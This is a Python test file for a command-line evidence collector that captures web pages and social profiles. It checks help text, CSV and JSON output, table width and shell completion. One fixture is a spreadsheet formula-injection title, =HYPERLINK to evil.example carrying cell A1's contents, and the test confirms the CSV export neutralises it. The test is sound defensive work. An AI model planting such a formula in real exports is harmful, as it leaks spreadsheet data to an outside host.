"""The command line for scripts and people, without a browser: help on every option,
`--json`/`--csv` shapes, tables that fit a terminal, shell completion. Captures are filed
by hand (tests/support/synthetic.py)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from collector import exits
from collector.cli import cli
from collector.text import shorten, table, width_of
from tests.support.synthetic import add_capture

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def commands(group: click.Group, path: str) -> Iterator[tuple[str, click.Command]]:
    for name, command in sorted(group.commands.items()):
        yield f"{path} {name}", command
        if isinstance(command, click.Group):
            yield from commands(command, f"{path} {name}")


def test_every_command_and_option_has_help() -> None:
    missing = []
    for path, command in commands(cli, "collector"):
        if not command.help:
            missing.append(path)
        for param in command.params:
            if isinstance(param, click.Option) and not param.hidden and not param.help:
                missing.append(f"{path} {'/'.join(param.opts)}")
    assert missing == []


@pytest.fixture
def filled(tmp_path: Path) -> Path:
    store = tmp_path / "evidence"
    add_capture(store, "20261125T050305090Z-2e1e37", url="https://example.org/profil/budi")
    add_capture(
        store,
        "20261125T050306000Z-c8029d",
        started="2026-11-25T05:03:06.000Z",
        url="https://example.org/" + "sangat-panjang/" * 8 + "hilang.html",
        outcome="not_found",
        title=HOSTILE_TITLE,
        case="BKPSDM-2024-017",
    )
    return store


def invoke(*args: str, env: dict[str, str] | None = None) -> click.testing.Result:
    return CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)


def test_list_csv_has_the_json_columns_and_defuses_formulas(filled: Path) -> None:
    as_json = json.loads(invoke("list", "--json", "--store", str(filled)).stdout)
    result = invoke("list", "--csv", "--store", str(filled))
    assert result.exit_code == 0
    raw = result.stdout_bytes
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == list(as_json[0])  # the same columns, in the same order
    assert [r["id"] for r in rows] == [r["id"] for r in as_json]
    hostile = next(r for r in rows if r["outcome"] == "not_found")
    assert hostile["title"] == "'" + HOSTILE_TITLE  # shown, never run as a formula
    assert next(r for r in as_json if r["outcome"] == "not_found")["title"] == HOSTILE_TITLE
    assert rows[0]["retired_at"] == "" and as_json[0]["retired_at"] is None
    both = invoke("list", "--csv", "--json", "--store", str(filled))
    assert both.exit_code == 2


def test_tables_fit_a_width_and_keep_ids_whole() -> None:
    ids = ["20261125T050305090Z-2e1e37", "20261125T050306000Z-c8029d"]
    rows = [
        [ids[0], "ok", "https://example.org/" + "a/" * 40 + "akhir.html"],
        [ids[1], "not_found", "Selamat 🇮🇩 pagi " * 6],
    ]
    full = table(["ID", "OUTCOME", "URL"], rows)
    assert max(width_of(line) for line in full.splitlines()) > 80
    fitted = table(["ID", "OUTCOME", "URL"], rows, width=80, keep=(0,))
    lines = fitted.splitlines()
    assert all(width_of(line) <= 80 for line in lines), fitted
    assert ids[0] in lines[2] and ids[1] in lines[3]
    assert "…" in lines[2] and lines[2].rstrip().endswith("akhir.html")  # cut in the middle
    assert shorten("abcdefghij", 5) == "ab…ij" and shorten("abc", 5) == "abc"
    assert width_of("🇮🇩") == 2 and width_of("日本") == 4 and width_of("e\u0301") == 1


def test_json_shapes_agree_between_commands(filled: Path) -> None:
    listed = json.loads(invoke("list", "--json", "--store", str(filled)).stdout)
    from collector.cli import shapes

    assert list(listed[0]) == list(shapes.capture_columns())


def test_profiles_check_json(tmp_path: Path) -> None:
    listing = tmp_path / "pantau.toml"
    listing.write_text(
        '[[entry]]\nname = "Budi"\nplatform = "instagram"\nhandle = "budi.contoh"\n'
        'tags = ["guru"]\n',
        "utf-8",
    )
    result = invoke("profiles", "check", str(listing), "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["file"] == str(listing) and len(data["sha256"]) == 64
    assert data["entries"] == [
        {
            "index": 1,
            "line": 1,
            "name": "Budi",
            "platform": "instagram",
            "handle": "budi.contoh",
            "url": "https://www.instagram.com/budi.contoh/",
            "tags": ["guru"],
            "session": None,
            "proxy": None,
        }
    ]


def test_exit_statuses_are_documented_and_distinct() -> None:
    codes = [code for code, _, _ in exits.EXIT_STATUSES]
    assert len(codes) == len(set(codes))
    assert exits.NOT_OK in exits.SCHEDULE_SUCCESS and exits.FAILED not in exits.SCHEDULE_SUCCESS
    assert exits.captures_status(["ok", "ok"]) == exits.OK
    assert exits.captures_status(["ok", "not_found", "login_wall"]) == exits.NOT_OK
    assert exits.captures_status(["not_found", "timeout"]) == exits.FAILED
    readme = (Path(__file__).resolve().parents[3] / "README.md").read_text("utf-8")
    assert exits.exit_statuses_table() in readme


# -- shell completion -----------------------------------------------------------------------


def complete(words: str, env: dict[str, str] | None = None) -> list[tuple[str, str]]:
    """What Click's bash completion answers for the command line `words` (the last word
    being completed): (type, value) pairs."""
    parts = words.split(" ")
    result = CliRunner().invoke(
        cli,
        [],
        prog_name="collector",
        env={
            "_COLLECTOR_COMPLETE": "bash_complete",
            "COMP_WORDS": words,
            "COMP_CWORD": str(len(parts) - 1),
            **(env or {}),
        },
    )
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    return [tuple(line.split(",", 1)) for line in result.stdout.splitlines() if line]  # type: ignore[misc]


def test_completes_capture_ids_newest_first(filled: Path) -> None:
    env = {"COLLECTOR_STORE": str(filled)}
    assert complete("collector show 2026", env) == [
        ("plain", "20261125T050306000Z-c8029d"),
        ("plain", "20261125T050305090Z-2e1e37"),
    ]
    assert complete("collector show 20261125T0503050", env) == [
        ("plain", "20261125T050305090Z-2e1e37")
    ]
    # the store given on the command line wins
    assert complete(f"collector note --store {filled} 2026")[0][1].startswith("2026")
    assert complete("collector diff 20261125T050305090Z-2e1e37 20261125T0503060", env) == [
        ("plain", "20261125T050306000Z-c8029d")
    ]


def test_completes_cases(filled: Path) -> None:
    env = {"COLLECTOR_STORE": str(filled)}
    assert complete("collector list --case ", env) == [
        ("plain", "BKPSDM-2024-017"),
        ("plain", "C-1"),
    ]
    assert complete("collector export --case BK", env) == [("plain", "BKPSDM-2024-017")]


def test_completes_watch_lists(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "profiles").mkdir()
    for name in ("solo.toml", "bawaslu.toml", "catatan.txt"):
        (tmp_path / "profiles" / name).write_text("")
    (tmp_path / "utama.toml").write_text("")
    monkeypatch.chdir(tmp_path)
    assert complete("collector run ") == [
        ("plain", "profiles/bawaslu.toml"),
        ("plain", "profiles/solo.toml"),
        ("plain", "utama.toml"),
    ]
    assert complete("collector profiles check profiles/s") == [("plain", "profiles/solo.toml")]
    assert complete("collector schedule pro") == [
        ("plain", "profiles/bawaslu.toml"),
        ("plain", "profiles/solo.toml"),
    ]


def test_completion_never_fails_loudly(tmp_path: Path) -> None:
    assert complete("collector show 2026", {"COLLECTOR_STORE": str(tmp_path / "nowhere")}) == []
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "index.db").write_bytes(b"this is not an SQLite database" * 100)
    assert complete("collector show 2026", {"COLLECTOR_STORE": str(broken)}) == []
    assert complete("collector list --case ", {"COLLECTOR_STORE": str(broken)}) == []
